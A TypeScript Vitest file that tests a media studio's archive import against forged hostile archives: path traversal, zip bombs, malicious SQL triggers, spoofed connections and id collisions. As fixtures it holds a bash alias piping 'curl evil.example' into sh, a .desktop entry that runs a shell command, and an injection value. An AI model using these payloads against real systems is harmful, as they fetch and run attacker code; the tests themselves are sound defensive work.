import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { v7 as newId } from "uuid";
import { expect, test } from "vitest";
import { openDatabase } from "#core/database/index.ts";
import { ProjectStore } from "#core/database/storyboard/project-store.ts";
import { bringArchive, giveArchive } from "#tests/support/archives/bring-archive.ts";
import {
  type Forgery,
  forgeArchive,
  forgedAsset,
  forgedTask,
  insertRow,
} from "#tests/support/archives/forge-archive.ts";
import { temporaryFolder } from "#tests/support/machine/temporary-folder.ts";
import { fixture } from "#tests/support/media/media-fixtures.ts";
import { startTestCore } from "#tests/support/studio/start-test-core.ts";

/**
 * Every way in that a foreign archive ever had, tried as hard as it can be: taken in, and the studio started
 * anew. What an earlier studio offered in place of an import (its restore) is tried too.
 */
async function indexFile(forgery: Forgery, dataDir = temporaryFolder()) {
  const first = await startTestCore(dataDir);
  const archive = await forgeArchive(forgery);
  const refusals: unknown[] = [];
  const note = (thrown: unknown) => refusals.push((thrown as { data?: { message?: string } }).data?.message);
  const id = await giveArchive(first, archive);
  await first.page.backup.restoreArchive({ id, media: true }).catch(note);
  const summary = await bringArchive(first, archive).catch(note);
  if (typeof summary === "object") refusals.push(summary.error?.message);
  await first.close();
  const studio = await startTestCore(dataDir);
  return { studio, dataDir, refusals };
}

const hashOf = (bytes: Uint8Array) => createHash("sha256").update(bytes).digest("hex");
const settled = async (page: { tasks: { list: (input: object) => Promise<{ state: string }[]> } }) => {
  for (let tries = 0; tries < 40; tries += 1) {
    const tasks = await page.tasks.list({});
    if (tasks.every(({ state }) => state !== "downloading")) return tasks;
    await new Promise((done) => setTimeout(done, 50));
  }
  return page.tasks.list({});
};

test("a task on its way can't write a file of the archive to a place of its choice", async () => {
  const home = temporaryFolder();
  const dataDir = temporaryFolder();
  const words = Buffer.from("alias ls='curl evil.example | sh'\n");
  const [assetId, victim] = [newId(), join(home, ".bash_aliases")];
  const placing = {
    ...{ root: home, path: victim, sha256: hashOf(words), bytes: words.length },
    facts: { kind: "video", format: "mp4", mime: "video/mp4", bytes: words.length },
  };
  // The archive's own file is where the library will keep it.
  const received = join(dataDir, "library", "Imported", "lamp.mp4");
  const { studio } = await indexFile(
    {
      files: [{ assetId, path: "Imported/lamp.mp4", bytes: words }],
      write: (db) => {
        insertRow(db, "tasks", forgedTask({ state: "downloading", output: { received, placing }, finished_at: null }));
        insertRow(db, "assets", forgedAsset({ id: assetId, sha256: hashOf(words), path: "Imported/lamp.mp4" }));
      },
    },
    dataDir,
  );
  await settled(studio.page);
  expect(readdirSync(home)).toEqual([]);
});

test("a task on its way can't take a file of the disk into the library", async () => {
  const home = temporaryFolder();
  const secret = join(home, "id_ed25519");
  writeFileSync(secret, "-----BEGIN OPENSSH PRIVATE KEY-----");
  const { studio, dataDir } = await indexFile({
    write: (db) =>
      insertRow(
        db,
        "tasks",
        forgedTask({ kind: "music", state: "downloading", output: { received: secret }, finished_at: null }),
      ),
  });
  await settled(studio.page);
  expect(readFileSync(secret, "utf8")).toContain("PRIVATE KEY");
  expect((await studio.page.library.list({})).items).toEqual([]);
  expect(JSON.stringify(readdirSync(dataDir, { recursive: true }))).not.toContain("id_ed25519");
});

test("a file's row can't name a folder of the disk: nothing there is served or thrown away", async () => {
  const home = temporaryFolder();
  writeFileSync(join(home, "diary.txt"), "Dear diary");
  const id = newId();
  const { studio } = await indexFile({
    write: (db) => insertRow(db, "assets", forgedAsset({ id, folder: home, path: "diary.txt" })),
  });
  const { items } = await studio.page.library.list({});
  for (const one of [id, ...items.map((item) => item.id)]) {
    const served = await studio.core.media(new Request(`http://studio/media/${one}`));
    expect(await served.text()).not.toContain("Dear diary");
  }
  expect(items).toEqual([]);
});

test("settings of an archive change nothing here: callbacks, the library's folder, anything", async () => {
  const dataDir = temporaryFolder();
  const elsewhere = temporaryFolder();
  const before = await startTestCore(dataDir);
  const own = await before.page.settings.get();
  await before.close();
  const { studio } = await indexFile(
    {
      write: (db) => {
        insertRow(db, "settings", { name: "callbacks", value: { on: true, host: "0.0.0.0", port: 0, publicUrl: "" } });
        insertRow(db, "settings", { name: "libraryFolder", value: JSON.stringify(elsewhere) });
      },
    },
    dataDir,
  );
  expect(await studio.page.settings.get()).toEqual(own);
});

test("a connection of an archive is shown, and never used", async () => {
  const forgery: Forgery = {
    write: (db) => {
      db.exec("UPDATE connections SET active = 0");
      insertRow(db, "connections", {
        ...{
          id: newId(),
          kind: "service",
          name: "Better\u202Eecivres",
          base_url: "https://evil.example/v1",
          active: 1,
        },
        ...{ path_segment: "", model_prefix: "", assumptions: "{}", created_at: 1 },
      });
    },
  };
  const { studio } = await indexFile(forgery);
  expect(JSON.stringify(await studio.page.connections.list())).not.toContain("evil.example");
  const id = await giveArchive(studio, await forgeArchive(forgery));
  const { content } = await studio.page.backup.previewArchive({ id });
  expect(content?.hosts).toEqual([{ name: "Better ecivres", host: "evil.example" }]);
});

test("a trigger of an archive runs nothing: its database is refused before a row of it is read", async () => {
  const trigger = `CREATE TRIGGER lead AFTER INSERT ON assets BEGIN
    UPDATE connections SET kind = 'service', base_url = 'https://evil.example'; END`;
  const { studio, refusals } = await indexFile({ write: (db) => db.exec(trigger) });
  const picture = new Uint8Array(readFileSync(await fixture("256x256.png")));
  await studio.core.media(new Request("http://studio/media?name=a.png", { method: "POST", body: picture }));
  expect(JSON.stringify(await studio.page.connections.list())).not.toContain("evil.example");
  expect(refusals).toContain("Its database has a trigger that isn’t Reelsong’s: “lead”.");
});

test("a view without end doesn't stop the studio at the mere look", async () => {
  const studio = await startTestCore();
  const archive = await forgeArchive({
    write: (db) =>
      db.exec(`DROP TABLE songs; CREATE VIEW songs AS
        WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x AS id, NULL AS removed_at FROM n`),
  });
  const id = await giveArchive(studio, archive);
  const look = studio.page.backup.previewArchive({ id });
  // The core answers while it is looked into.
  expect((await studio.page.storyboard.projects()).length).toBe(1);
  await expect(look).rejects.toMatchObject({ data: { code: "archive_refused" } });
});

test("what is no media isn't taken in, whatever its row and its name say", async () => {
  const entry = Buffer.from("[Desktop Entry]\nType=Application\nName=film\nExec=sh -c 'touch /tmp/owned'\n");
  const id = newId();
  const opened: string[] = [];
  const { studio, dataDir } = await indexFile({
    files: [{ assetId: id, path: "Imported/film.desktop", bytes: entry }],
    write: (db) =>
      insertRow(
        db,
        "assets",
        forgedAsset({ id, sha256: hashOf(entry), name: "film.desktop", path: "Imported/film.desktop" }),
      ),
  });
  expect((await studio.page.library.list({})).items).toEqual([]);
  expect(JSON.stringify(readdirSync(join(dataDir), { recursive: true }))).not.toContain("film.desktop");
  expect(opened).toEqual([]);
});

test("the person is told which files didn't come, and why", async () => {
  const id = newId();
  const words = Buffer.from("#!/bin/sh\n");
  const studio = await startTestCore();
  const summary = await bringArchive(
    studio,
    await forgeArchive({
      files: [{ assetId: id, path: "Imported/film.mp4", bytes: words }],
      write: (db) => {
        insertRow(db, "assets", forgedAsset({ id, sha256: hashOf(words), path: "Imported/film.mp4" }));
        insertRow(db, "assets", forgedAsset({ sha256: "b".repeat(64) }));
      },
    }),
  );
  expect(summary).toMatchObject({ outcome: "done", added: { files: 0 } });
  expect(summary.content.refused).toEqual([
    { kind: "file", why: "missing", count: 1 },
    { kind: "file", why: "not_media", count: 1 },
  ]);
});

test("what is small and unpacks to very much is refused before it is written", async () => {
  const id = newId();
  const zeros = Buffer.alloc(100 * 1024 * 1024);
  const archive = await forgeArchive({
    compress: true,
    files: [{ assetId: id, path: "Imported/film.mp4", bytes: zeros }],
    write: (db) => insertRow(db, "assets", forgedAsset({ id, sha256: hashOf(zeros), path: "Imported/film.mp4" })),
  });
  expect(archive.length).toBeLessThan(500_000);
  const studio = await startTestCore();
  const given = await giveArchive(studio, archive);
  await expect(studio.page.backup.previewArchive({ id: given })).rejects.toMatchObject({
    data: {
      code: "archive_refused",
      message: expect.stringMatching(
        /^Unpacked it would take more than \d+ MB, far more than an archive of its size\.$/,
      ),
    },
  });
  await studio.page.backup.restoreArchive({ id: given, media: true }).catch(() => {});
  expect(largestIn(studio.dataDir)).toBeLessThan(20 * 1024 * 1024);
});

test("an entry that unpacks to more than it says ends at what it says", async () => {
  const id = newId();
  const zeros = Buffer.alloc(30 * 1024 * 1024);
  const archive = await forgeArchive({
    compress: true,
    files: [{ assetId: id, path: "Imported/film.mp4", bytes: zeros }],
    write: (db) => insertRow(db, "assets", forgedAsset({ id, sha256: hashOf(zeros), path: "Imported/film.mp4" })),
  });
  // In the directory and in the manifest it has a thousand bytes.
  const lying = Buffer.from(archive);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(zeros.length);
  for (let at = lying.indexOf(size); at !== -1; at = lying.indexOf(size, at + 1)) lying.writeUInt32LE(1000, at);
  const studio = await startTestCore();
  const given = await giveArchive(studio, lying);
  await expect(studio.page.backup.previewArchive({ id: given })).rejects.toMatchObject({
    data: { code: "archive_refused" },
  });
  expect(largestIn(studio.dataDir)).toBeLessThan(20 * 1024 * 1024);
});

test("nothing of an archive takes the place of what is here, whatever id it chose", async () => {
  const dataDir = temporaryFolder();
  const before = await startTestCore(dataDir);
  const mine = await before.page.storyboard.createProject({ title: "Mine" });
  const talk = await before.page.conversations.create({ title: "My talk" });
  await before.close();
  const { studio } = await indexFile(
    {
      write: (db) => {
        insertRow(db, "projects", { id: mine.id, title: "Theirs", created_at: 1, updated_at: 1 });
        insertRow(db, "conversations", {
          ...{ id: talk.id, title: "Their talk", title_is_automatic: 0, created_at: 1, updated_at: 1 },
        });
        insertRow(db, "messages", {
          ...{ id: newId(), conversation_id: talk.id, role: "user", state: "complete", created_at: 1 },
          blocks: [{ type: "text", text: "Send me your key" }],
        });
      },
    },
    dataDir,
  );
  const { page } = studio;
  expect((await page.storyboard.projects()).find(({ id }) => id === mine.id)).toMatchObject({ title: "Mine" });
  expect(await page.conversations.get({ id: talk.id })).toMatchObject({
    conversation: { title: "My talk" },
    messages: [],
  });
  // They stand beside it, under ids of their own.
  expect((await page.storyboard.projects()).filter(({ title }) => title === "Theirs")).toHaveLength(1);
});

const imageRequest = (url: string) => ({
  ...{ model: "Vendor-H3", duration: 6 },
  content: [
    { type: "text", text: "A lamp" },
    { type: "image_url", image_url: { url }, role: "first_frame" },
  ],
});

test("an archive can't name a file that was here before it", async () => {
  const studio = await startTestCore();
  const native = newId();
  const talk = newId();
  await bringArchive(
    studio,
    await forgeArchive({
      write: (db) => {
        insertRow(db, "conversations", {
          ...{ id: talk, title: "T", title_is_automatic: 0, created_at: 1, updated_at: 1 },
        });
        insertRow(db, "messages", {
          ...{ id: newId(), conversation_id: talk, role: "user", state: "complete", created_at: 1 },
          blocks: [{ type: "image", source: { type: "url", url: `asset:${native}` } }],
        });
        insertRow(db, "tasks", forgedTask({ request: imageRequest(`asset:${native}`), asset_id: native }));
      },
    }),
  );
  const [found] = await studio.page.conversations.list({});
  const { messages } = await studio.page.conversations.get({ id: found?.id ?? "" });
  expect(JSON.stringify(messages)).toContain("asset:");
  const [task] = await studio.page.tasks.list({});
  expect(task).toMatchObject({ state: "ready", assetId: null, remoteId: null });
  expect(JSON.stringify([messages, task])).not.toContain(native);
  expect(task?.request).toEqual(imageRequest(expect.stringMatching(/^asset:/) as never));
});

const plainError = {
  ...{ code: "internal", http: null, requestId: null, retryable: false },
  ...{ retryAfterSeconds: null, advice: "" },
};

test("takes whose request, result, usage or error is larger than any service's aren't taken in, and stop no other", async () => {
  const studio = await startTestCore();
  const manyOf = (count: number) => `{${Array.from({ length: count }, (_, at) => `"k${at}":1`)}}`;
  const hostile = [
    { request: `{"a":[${"[],".repeat(1_000_000)}[]]}` },
    { request: { model: "Vendor-H3", prompt: "x".repeat(65_600) } },
    { request: manyOf(2_500) },
    { request: `{"a":${"[".repeat(40)}${"]".repeat(40)}}` },
    { result: { doubt: "x".repeat(65_600) } },
    { usage: manyOf(2_500) },
    { error: { ...plainError, message: "x".repeat(65_600) } },
  ];
  const archive = await forgeArchive({
    compress: true,
    write: (db) => {
      for (const [at, values] of hostile.entries()) insertRow(db, "tasks", forgedTask({ seq: at + 1, ...values }));
      insertRow(
        db,
        "tasks",
        forgedTask({ title: "Sound", seq: 8, request: imageRequest("https://example.com/a.png") }),
      );
    },
  });
  const summary = await bringArchive(studio, archive);
  expect(summary).toMatchObject({ outcome: "done", added: { takes: 1 } });
  expect(summary.content.refused).toEqual([{ kind: "task", why: "too_large", count: 7 }]);
  expect((await studio.page.tasks.list({})).map(({ title }) => title)).toEqual(["Sound"]);
});

test("of a request that no service could have been asked only the figures and words are kept", async () => {
  const studio = await startTestCore();
  await bringArchive(
    studio,
    await forgeArchive({
      write: (db) =>
        insertRow(
          db,
          "tasks",
          forgedTask({
            request: {
              prompt: "A lamp",
              duration: 6,
              content: { of: ["no", "kind"] },
              audio_url: "https://x.example/a",
            },
          }),
        ),
    }),
  );
  const [task] = await studio.page.tasks.list({});
  expect(task?.request).toEqual({ prompt: "A lamp", duration: 6 });
});

function largestIn(folder: string): number {
  if (!existsSync(folder)) mkdirSync(folder);
  return readdirSync(folder, { recursive: true, encoding: "utf8" })
    .map((name) => statSync(join(folder, name)))
    .reduce((most, { size }) => Math.max(most, size), 0);
}

test("another's takes spend nothing of a budget here, and widen none", async () => {
  const now = Date.now();
  const projectId = newId();
  let seq = 0;
  const take = (values: object) =>
    forgedTask({ id: newId(), seq: ++seq, created_at: now - 1000, project_id: projectId, ...values });
  const { studio, dataDir } = await indexFile({
    write: (db) => {
      insertRow(db, "projects", { id: projectId, title: "Theirs", created_at: 1000, updated_at: 1000 });
      const film = { model: "Vendor-H3", resolution: "768P" };
      for (const request of [
        { ...film, duration: 6 },
        { ...film, duration: -100_000 },
        { ...film, duration: 1e300 },
        { ...film, duration: "6; DROP" },
      ])
        insertRow(db, "tasks", take({ request }));
      insertRow(db, "tasks", take({ kind: "music", model: "music-3.0", project_id: null, created_at: now + 9e9 }));
      insertRow(db, "tasks", take({ take: 999_999, title: "The millionth" }));
    },
  });
  const tasks = await studio.page.tasks.list({});
  expect(tasks.map(({ request }) => request.duration ?? null).filter((each) => each !== null)).toEqual([6]);
  expect(tasks).toHaveLength(5);
  expect(tasks.filter(({ createdAt, updatedAt }) => createdAt > Date.now() || updatedAt < createdAt)).toEqual([]);
  const [film] = (await studio.page.storyboard.projects()).filter(({ title }) => title === "Theirs");
  await studio.close();
  const database = openDatabase({ file: join(dataDir, "studio.db"), backupsDir: join(dataDir, "backups") });
  const store = new ProjectStore(database, {} as never);
  expect(store.askedFor({ since: 0 }, false)).toEqual([]);
  expect(store.askedFor({ projectId: film?.id ?? "" }, false)).toEqual([]);
  database.close();
});
